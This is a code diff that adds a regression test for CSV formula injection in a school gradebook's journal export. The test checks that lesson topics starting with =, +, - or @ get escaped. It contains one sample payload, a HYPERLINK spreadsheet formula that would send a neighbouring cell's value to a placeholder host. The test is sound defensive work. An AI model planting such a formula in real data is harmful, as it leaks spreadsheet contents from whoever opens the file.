@@ -60,3 +60,17 @@ def test_only_those_who_read_the_grid_get_the_document(api, world, school, fille
         api.problem("teacher1", "GET", f"/loads/{school.maths_5a}/journal.{fmt}?term_id={school.s2_term}", 404)
         assert "term_id" in api.problem("teacher1", "GET", f"/loads/{school.maths_5a}/journal.{fmt}?term_id=x",
                                         422)["errors"]
+
+
+def test_a_topic_that_looks_like_a_formula_stays_text_in_the_csv(api, world, school):
+    """Issue 11, low finding: CSV cells starting with = + - @ were not escaped, so a topic typed
+    by one teacher ran as a formula in the spreadsheet of whoever opened the export."""
+    on = world.today - timedelta(days=21)
+    formula = '=HYPERLINK("http://example.invalid/?"&B3,"Тема")'
+    api.ok("teacher1", "POST", f"/loads/{school.maths_5a}/lessons", json={
+        "date": on.isoformat(), "period": 3, "topic": formula, "homework": "-"})
+    response = api.as_("teacher1", "GET", f"/loads/{school.maths_5a}/journal.csv?term_id={school.terms[2]}")
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
+    topics = rows[1]
+    assert "'" + formula in topics and formula not in topics
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
